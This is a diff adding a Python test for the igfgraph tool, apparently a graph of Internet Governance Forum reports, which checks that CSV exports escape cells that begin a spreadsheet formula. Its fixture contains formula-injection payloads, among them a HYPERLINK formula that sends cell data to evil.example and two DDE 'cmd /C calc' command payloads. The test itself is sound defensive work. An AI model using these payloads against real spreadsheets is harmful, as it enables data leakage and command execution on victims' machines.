@@ -3,7 +3,10 @@
 
 from __future__ import annotations
 
+import csv
 import http.server
+import io
+import json
 import threading
 from collections.abc import Iterator
 from pathlib import Path
@@ -18,6 +21,7 @@ from igfgraph.cli import app
 from igfgraph.endpoint import SparqlEndpointStore
 from igfgraph.ingest import collect_files, ingest, load_reports
 from igfgraph.queries import run_query
+from igfgraph.spreadsheet import FORMULA_STARTS
 from igfgraph.store import GraphStore, copy_graphs, open_store
 
 HOSTILE_REPORT = """IGF 2017 Reporting Template
@@ -174,3 +178,41 @@ def test_a_query_file_calls_no_other_server_unless_allowed(tmp_path: Path):
         assert len(_Recorder.requests) >= 1
     finally:
         server.shutdown()
+
+
+FORMULAS = {
+    "Kathy Brown": '=HYPERLINK("http://evil.example/?"&A1,"Kathy Brown")',
+    "Markus Kummer": "+cmd|' /C calc'!A0",
+    "Lea Kaspar": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Kaja Ciglic": "-2+3",
+}
+
+
+def test_csv_cells_that_start_a_formula_are_written_as_text(tmp_path: Path):
+    store = tmp_path / "store"
+    with open_store(store) as graph_store:
+        ingest(graph_store, [SEED_PATH])
+        rename_people(graph_store, FORMULAS)
+    runner = CliRunner()
+    as_csv = runner.invoke(app, ["query", "people", "--format", "csv", "--store", str(store)])
+    as_json = runner.invoke(app, ["query", "people", "--format", "json", "--store", str(store)])
+    assert as_csv.exit_code == as_json.exit_code == 0, as_csv.stderr
+    cells = [row["person"] for row in csv.DictReader(io.StringIO(as_csv.stdout))]
+    assert {cell for cell in cells if cell[1:] in FORMULAS.values()} == {
+        f"'{formula}" for formula in FORMULAS.values()
+    }
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+    names = {row["person"] for row in json.loads(as_json.stdout)}
+    assert set(FORMULAS.values()) <= names  # JSON keeps the values exactly
+    edges = tmp_path / "edges.csv"
+    exported = runner.invoke(
+        app, ["export", "--format", "csv", "--out", str(edges), "--store", str(store)]
+    )
+    assert exported.exit_code == 0, exported.stderr
+    labels = [
+        row[column]
+        for row in csv.DictReader(edges.open(encoding="utf-8"))
+        for column in ("source_label", "target_label")
+    ]
+    assert f"'{FORMULAS['Kathy Brown']}" in labels
+    assert not any(label.startswith(FORMULA_STARTS) for label in labels)
